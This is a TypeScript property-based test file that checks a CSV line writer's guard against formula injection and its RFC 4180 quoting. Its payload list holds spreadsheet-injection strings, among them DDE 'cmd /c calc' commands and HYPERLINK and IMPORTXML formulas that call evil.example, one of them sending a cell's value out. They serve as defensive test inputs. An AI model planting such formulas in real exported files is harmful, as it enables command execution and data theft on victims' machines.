import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

import { csvLine } from './csv.ts';

const starters = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'];
const payloads = [
  'cmd|"/c calc"!A0',
  'HYPERLINK("http://evil.example","x")',
  'SUM(1+1)*cmd|’ /C calc’!A0',
  '1+1',
  '2+5+cmd|"/C calc"!A0',
  'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '1',
  '',
  '"',
  ',',
  '\r\n=1',
  "'",
  'DDE("cmd","/C calc","x")',
  ' 1',
  '−1',
  '=1',
  '+1',
];

/** A strict reading of RFC 4180, for one record with its line end. */
function parseLine(line: string): string[] {
  expect(line.endsWith('\r\n')).toBe(true);
  const cells: string[] = [];
  let rest = line.slice(0, -2);
  for (;;) {
    const quoted = /^"((?:[^"]|"")*)"(?=,|$)/.exec(rest);
    const plain = /^[^",\r\n]*(?=,|$)/.exec(rest);
    const [whole, inner] = quoted ?? plain ?? ['', undefined];
    if (quoted === null && plain === null) throw new Error(`Not RFC 4180: ${JSON.stringify(rest)}`);
    cells.push(inner?.replaceAll('""', '"') ?? whole);
    if (whole.length === rest.length) return cells;
    rest = rest.slice(whole.length + 1);
  }
}

/** Phone numbers, and plain negative numbers. */
const harmless = /^(?:\+\d+|-\d+(?:\.\d+)?)$/;
const guarded = /^'+[=+\-@\t\r\n\0＝＋－＠]/;
const unguarded = (cell: string) => (guarded.test(cell) ? cell.slice(1) : cell);

describe('H14: a CSV line', () => {
  const cells = starters.flatMap((start) => payloads.map((payload) => start + payload));

  it('knows some 200 formulas', () => {
    expect(cells.length).toBeGreaterThanOrEqual(200);
  });

  it.each(cells.map((cell) => [JSON.stringify(cell), cell] as const))(
    '%s is no formula any more, and can be had back',
    (_, cell) => {
      const [read] = parseLine(csvLine([cell]));
      expect(read).toBe(harmless.test(cell) ? cell : `'${cell}`);
      expect(unguarded(read ?? '')).toBe(cell);
    },
  );

  it.each(['89882280666000001234', '+4915112345678', '0', '0049151', 'Zähler 7', "O'Neill", 'a=b'])(
    '%s stays as it is',
    (cell) => expect(parseLine(csvLine([cell]))).toEqual([cell]),
  );

  it.each(['-1.86274', '-33.8688', '-7', '-0.0'])(
    '%s is a number for other programs, such as a western longitude',
    (cell) => expect(parseLine(csvLine([cell]))).toEqual([cell]),
  );

  it.each([
    '-1.',
    '-.5',
    '-1.5.2',
    '-1,5',
    '-1e5',
    '-1-1',
    '--1',
    '- 1',
    '+1.5',
    '-1\n',
    '-1A1',
    '-١',
  ])('%j begins like a number, and is guarded all the same', (cell) =>
    expect(parseLine(csvLine([cell]))).toEqual([`'${cell}`]),
  );

  it('RFC 4180: quotes what holds a comma, a quote or a line end, and doubles quotes', () => {
    expect(csvLine(['a', 'b,c', 'd"e', 'f\ng', '', ' h'])).toBe('a,"b,c","d""e","f\ng",, h\r\n');
  });

  it('an empty cell alone is no empty line', () => {
    expect(parseLine(csvLine(['']))).toEqual(['']);
  });

  it('10,000 lines of anything come back as they were, without a cell that begins a formula', () => {
    const nasty = fc.constantFrom(...starters, '"', "'", ',', '\r\n', ' ', 'a', '1', '0', '\u2028');
    const cell = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 12 }),
      fc.array(nasty, { maxLength: 8 }).map((parts) => parts.join('')),
    );
    const line = fc.array(cell, { minLength: 1, maxLength: 6 });
    fc.assert(
      fc.property(line, (given) => {
        const read = parseLine(csvLine(given));
        expect(read.map(unguarded)).toEqual(given);
        const formulas = read.filter((text) => starters.some((start) => text.startsWith(start)));
        expect(formulas.filter((text) => !harmless.test(text))).toEqual([]);
      }),
      { numRuns: 10_000 },
    );
  });
});
